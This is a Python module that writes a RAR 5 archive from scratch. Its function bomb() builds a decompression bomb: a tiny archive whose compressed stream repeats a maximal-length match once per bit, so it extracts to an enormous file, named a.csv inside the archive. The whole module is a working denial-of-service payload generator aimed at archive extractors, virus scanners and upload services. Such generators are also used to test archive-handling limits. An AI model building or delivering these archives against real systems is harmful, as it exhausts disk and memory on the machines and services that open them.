"""RAR 5 archives written from the description of the format: for what no free program writes."""

from __future__ import annotations

import struct
import zlib
from typing import Final

_SIGN: Final = b"Rar!\x1a\x07\x01\0"
_LONGEST: Final = 2 + (7 << 9)
"""Bytes of a match: slot 43, of which the nine extra bits are 0."""


def bomb(size: int = 64 * 1024) -> bytes:
    """Return a file of one letter, of which each bit copies three and a half kilobytes."""
    letter, match, once_more = "10", "11" + "000000000" + "0", "0"
    data = letter + match + once_more * (8 * size)
    expanded = 1 + _LONGEST * (1 + 8 * size)
    return _archive(_block(_tables() + data), expanded)


def _tables() -> str:
    """Return the code lengths: two bits for the letter and the longest match, one for the last match once more."""
    nibbles = [0] * 20
    nibbles[1] = nibbles[2] = 2  # a length of one: 10, of two: 11
    nibbles[19] = 1  # 11 to 138 zeros: 0 and seven bits

    def zeros(count: int) -> str:
        first = min(count, 138) if not 138 < count < 149 else 127
        return f"0{first - 11:07b}" + (zeros(count - first) if count > first else "")

    one, two = "10", "11"
    lengths = zeros(65) + two + zeros(191) + one + zeros(47) + two + one + zeros(63 + 16 + 44)
    return "".join(f"{nibble:04b}" for nibble in nibbles) + lengths


def _block(bits: str) -> bytes:
    data = int(bits, 2) << (-len(bits) % 8)
    packed = data.to_bytes((len(bits) + 7) // 8, "big")
    flags = (
        ((len(bits) - 1) % 8) | 2 << 3 | 0x40 | 0x80
    )  # bits of the last byte, three bytes of size, last, with tables
    size = struct.pack("<I", len(packed))[:3]
    check = 0x5A ^ flags ^ size[0] ^ size[1] ^ size[2]
    return bytes([flags, check]) + size + packed


def _archive(packed: bytes, expanded: int) -> bytes:
    name = b"a.csv"
    file = _number(2) + _number(2) + _number(len(packed)) + _number(0) + _number(expanded) + _number(0)
    file += _number(3 << 7) + _number(1) + _number(len(name)) + name
    return _SIGN + _head(_number(1) + _number(0) + _number(0)) + _head(file) + packed + _head(b"\5\0\0")


def _head(fields: bytes) -> bytes:
    sized = _number(len(fields)) + fields
    return struct.pack("<I", zlib.crc32(sized)) + sized


def _number(value: int) -> bytes:
    made = b""
    while value > 127:
        made += bytes([value & 127 | 128])
        value >>= 7
    return made + bytes([value])
